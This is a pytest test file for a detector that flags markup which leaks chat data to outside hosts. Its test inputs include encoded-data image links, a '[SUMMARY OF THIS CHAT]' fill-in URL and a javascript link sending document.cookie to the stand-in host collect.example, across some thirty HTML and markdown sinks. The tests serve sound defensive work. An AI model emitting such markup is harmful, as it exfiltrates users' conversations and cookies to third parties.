import base64

import pytest

from curtilage.detect.hostile.markup import find_leaks

SAID = base64.b64encode(b"the customer list is attached").decode()
CARRIES = f"https://collect.example/p.png?d={SAID}"
FILLED = "https://collect.example/p.png?d=[SUMMARY OF THIS CHAT]"

SINKS = {
    "image": "![x]({})",
    "image in angles": "![x](<{}>)",
    "image with title": '![x]({} "t")',
    "image in a link": "[![x]({})](https://a.example)",
    "reference image": "![x][r]\n\n[r]: {}",
    "short reference image": "![r]\n\n[r]: <{}>",
    "img": '<img src="{}">',
    "img without quotes": "<img src={} >",
    "img capitals": "<IMG alt='a' SRC='{}'>",
    "srcset": '<img srcset="{} 2x">',
    "background": '<body background="{}">',
    "iframe": '<iframe src="{}"></iframe>',
    "object": '<object data="{}"></object>',
    "embed": '<embed src="{}">',
    "video": '<video poster="{}"></video>',
    "audio": '<audio src="{}"></audio>',
    "stylesheet": '<link rel="stylesheet" href="{}">',
    "meta": '<meta http-equiv="refresh" content="0; url={}">',
    "css": "<div style=\"background: url('{}')\">",
    "css import": '<style>@import "{}";</style>',
    "svg image": '<svg><image xlink:href="{}"/></svg>',
    "svg use": '<svg><use href="{}"/></svg>',
    "script": '<script src="{}"></script>',
    "link": "[click]({})",
    "reference link": "[click][r]\n\n[r]: {}",
    "autolink": "<{}>",
    "anchor": '<a href="{}">click</a>',
    "ping": '<a ping="{}" href="#">click</a>',
    "form": '<form action="{}">',
    "button": '<button formaction="{}">',
}


def names(text: str, *values: str, allowed: tuple[str, ...] = ()) -> list[str]:
    return [reason.name for reason in find_leaks(text, values=values, allowed=allowed)]


@pytest.mark.parametrize("sink", sorted(SINKS))
def test_text_that_was_encoded_to_travel_is_seen_in_every_sink(sink: str) -> None:
    text = SINKS[sink].format(CARRIES)
    (reason,) = find_leaks(text, values=(), allowed=())
    assert reason.name == "encoded-text"
    assert text[reason.start : reason.end] == CARRIES


@pytest.mark.parametrize("sink", sorted(SINKS))
def test_a_value_of_the_conversation_is_seen_in_every_sink(sink: str) -> None:
    text = SINKS[sink].format("https://collect.example/adas-secret-garden/x")
    assert names(text, "Adas secret garden") == ["conversation-value"]
    assert names(text, "another value") == []


@pytest.mark.parametrize("scheme", ["https:", "http:", "HTTPS:", ""])
def test_a_place_to_fill_is_seen_whatever_the_scheme(scheme: str) -> None:
    assert names(f"![x]({scheme}{FILLED.partition(':')[2]})") == ["place-to-fill"]


@pytest.mark.parametrize(
    "text",
    [
        "[run](javascript:fetch('//collect.example/'+document.cookie))",
        '<a href="javascript:alert(1)">x</a>',
        '<iframe src="data:text/html;base64,PHNjcmlwdD4=">',
        '<img src="data:image/svg+xml,<svg onload=x>">',
    ],
)
def test_an_address_that_runs_a_script_is_seen(text: str) -> None:
    assert "script-address" in names(text)


@pytest.mark.parametrize(
    "text",
    [
        "![build](https://ci.example/badge/main.svg?branch=main&style=flat)",
        "[docs](https://docs.example/guide?page=2#install)",
        "See https://files.example/a/b.tar.gz?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
        "[search](https://shop.example/search?q=red%20shoes%20size%2042)",
        "// a comment: https://example.org/path",
        "a[i](x) // 2",
        '<img src="/static/logo.png">',
        '<script src="https://cdn.example/lib@4.1.2/dist/lib.min.js"></script>',
    ],
)
def test_ordinary_markup_is_left_alone(text: str) -> None:
    assert names(text, "ada@example.org") == []


def test_a_host_that_is_allowed_may_carry_anything() -> None:
    assert names(f"![x]({CARRIES})", allowed=("collect.example",)) == []
    assert names(f"![x]({CARRIES})", allowed=("example",)) == []
    assert names(f"![x]({CARRIES})", allowed=("llect.example",)) == ["encoded-text"]


def test_an_address_in_running_text_is_no_sink() -> None:
    assert names(f"Send it to {FILLED} by hand") == []


def test_addresses_in_a_row_are_all_looked_at() -> None:
    row = f"![a](https://a.example/x.png)![b]({CARRIES})"
    assert names(row) == ["encoded-text"]


@pytest.mark.parametrize("line", [
    'src="{}"', 'alt="a picture" width="1" src="{}" ', 'poster="{}"', 'href="{}" rel="x"',
    'http-equiv="refresh" content="0; url={}"', '  action="{}"', 'image: xlink:href="{}" ',
])  # fmt: skip
def test_attributes_whose_tag_a_reader_left_out_are_seen(line: str) -> None:
    assert names(f"Hello.\n{line.format(CARRIES)}\nBye.") == ["encoded-text"]


@pytest.mark.parametrize("line", ['the "{}"', 'x = src + "{}"', 'set src="a" to "{}"'])
def test_what_only_has_the_words_of_attributes_is_none(line: str) -> None:
    assert names(line.format(CARRIES)) == []
